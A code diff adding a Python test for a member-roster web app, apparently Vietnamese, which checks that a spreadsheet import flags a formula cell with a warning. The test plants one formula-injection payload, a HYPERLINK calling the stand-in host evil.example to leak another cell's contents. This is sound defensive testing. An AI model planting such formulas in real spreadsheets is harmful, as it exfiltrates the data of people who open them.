@@ -371,3 +371,28 @@ def test_a_body_too_big_is_refused_before_it_is_read(client: TestClient, ws: Pat
     )
     assert huge.status_code == 413 and "dữ liệu quá lớn" in unescape(huge.text)
     assert roster.read_bytes() == before
+
+
+def test_an_imported_formula_is_told_as_a_warning(client: TestClient, tmp_path: Path) -> None:
+    """Issue 20: the import's warnings (a formula read as its text) reach the page."""
+    import io
+
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(client.get(f"/chi-bo/{CELL}/dang-vien/xuat?nam=2026").content))
+    sheet = book.worksheets[0]
+    header = next(
+        row for row in sheet.iter_rows(max_row=10) if any(cell.value == "Chức vụ" for cell in row)
+    )
+    column = next(cell.column_letter for cell in header if cell.value == "Chức vụ")
+    sheet[f"{column}{header[0].row + 1}"] = '=HYPERLINK("http://evil.example/?leak="&C5,"Bí thư")'
+    buffer = io.BytesIO()
+    book.save(buffer)
+    sent = client.post(
+        f"/chi-bo/{CELL}/dang-vien/nhap",
+        data={"_token": TOKEN},
+        files={"tep": ("danh-sach.xlsx", buffer.getvalue(), "application/octet-stream")},
+    )
+    page = unescape(sent.text)
+    assert sent.status_code == 200 and "Đã nhập" in page
+    assert f"Cảnh báo: danh-sach.xlsx: dòng {header[0].row + 1}, cột {column} (Chức vụ): ô chứa công thức" in page
